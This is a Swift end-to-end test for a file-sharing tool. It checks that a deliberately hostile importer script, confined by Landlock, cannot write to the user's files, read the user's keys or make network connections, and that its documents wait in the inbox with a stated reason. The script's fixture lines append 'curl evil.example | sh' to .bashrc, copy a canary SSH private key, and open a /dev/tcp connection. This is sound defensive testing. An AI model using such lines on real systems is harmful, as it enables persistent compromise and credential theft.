import Foundation
import ShareTestSupport
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// A hostile `command` importer registered with `share types register`, fed by a real `share send`
/// to a real `share receive`: confined by Landlock, each attack is denied, its document stays in the
/// inbox, and the user and the sender are told. Needs Landlock ABI 6 or later (this kernel: 7).
@Suite(.serialized) struct ImporterConfinementEndToEndTests {
    @Test func aHostileImporterIsDeniedAndItsDocumentsWaitInTheInboxWithTheReason() async throws {
        let dir = TemporaryDirectory("confine-e2e")
        let alice = TestMachine("alice", in: dir)
        let bob = TestMachine("bob", in: dir)
        let listener = try LoopbackListener()
        let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nbob's canary\n"
        FileTree.makeFolder(bob.home + "/.ssh")
        FileTree.writeText(bob.home + "/.ssh/id_ed25519", key)
        FileTree.writeText(bob.home + "/.bashrc", "# bob's canary\n")
        let manifest = scriptImporter(
            "Hostile", ext: "hostile",
            script: """
                #!/bin/bash
                case "$(cat "$1")" in
                write) echo 'curl evil.example | sh' >> "$HOME/.bashrc" || exit 1 ;;
                ssh) cat "$HOME/.ssh/id_ed25519" > stolen-key || exit 1 ;;
                connect) exec 3<>/dev/tcp/127.0.0.1/\(listener.port) || exit 1 ;;
                honest) echo kept > "$TMPDIR/note" && mv "$TMPDIR/note" note.txt || exit 1 ;;
                esac
                """,
            keys: "<key>Folder</key><string>~/Hostile</string>", in: dir)
        #expect(await bob.run(["types", "register", manifest]).status == 0)
        let attacks = ["write", "ssh", "connect"]
        for name in attacks + ["honest"] { FileTree.writeText(dir.at("\(name).hostile"), name) }

        let receiver = bob.start(["receive", "--port", "0", "--dir", dir.at("downloads"), "--accept", "all", "--once"])
        #expect(await receiver.waitForOutput(containing: "on port"))
        let port = try #require(
            receiver.stdout.split(separator: " ").drop { $0 != "port" }.dropFirst().first.flatMap { Int($0) })
        let sent = await alice.run(
            ["send"] + (attacks + ["honest"]).map { dir.at("\($0).hostile") } + ["--to", "127.0.0.1:\(port)"])
        let received = await receiver.wait(timeout: .seconds(30))

        // Nothing got out.
        #expect(try String(contentsOfFile: bob.home + "/.bashrc", encoding: .utf8) == "# bob's canary\n")
        let stolen = (try? String(contentsOfFile: bob.home + "/Hostile/stolen-key", encoding: .utf8)) ?? ""
        #expect(!stolen.contains("canary"))
        #expect(listener.connectionsArrived() == 0)
        // The sender hears where each went, without the receiver's details.
        #expect(sent.status == 0, "\(sent.stderr)")
        #expect(
            sent.stdout.hasSuffix(
                attacks.map { "  \($0).hostile: kept in the receiver's inbox: Hostile could not import it\n" }.joined()
                    + "  honest.hostile: imported by \"Hostile\"\n"), "\(sent.stdout)")
        // The receiver's user sees why, with what the importer may do.
        let note =
            "(it runs confined: it may write only in its store '\(bob.home)/Hostile' and its TMPDIR, read only its "
            + "program, system folders and the document, and may not use TCP)"
        #expect(received.status == 0)
        let lines = received.stdout.split(separator: "\n").map(String.init)
        for name in attacks {
            let line = try #require(lines.first { $0.hasPrefix("  \(name).hostile: kept in the inbox as ") })
            #expect(line.contains(": Hostile: its importer failed (exit status 1): "), "\(line)")
            #expect(line.contains("Permission denied \(note) (retry with 'share inbox import "), "\(line)")
        }
        #expect(lines.contains { $0.contains(": \(bob.home)/.bashrc: Permission denied") })
        #expect(lines.contains { $0.contains("/dev/tcp/127.0.0.1/\(listener.port): Permission denied") })
        #expect(lines.contains("  honest.hostile: imported by \"Hostile\""))
        #expect(try String(contentsOfFile: bob.home + "/Hostile/note.txt", encoding: .utf8) == "kept\n")
        // ... and finds them in the inbox, with the same reason.
        let listed = await bob.run(["inbox", "list"])
        #expect(listed.stdout.components(separatedBy: "  failed     ").count == attacks.count + 1, "\(listed.stdout)")
        #expect(listed.stdout.components(separatedBy: "Permission denied \(note)\n").count == attacks.count + 1)
        #expect(FileTree.allPaths(dir.at("downloads")).isEmpty)
    }
}
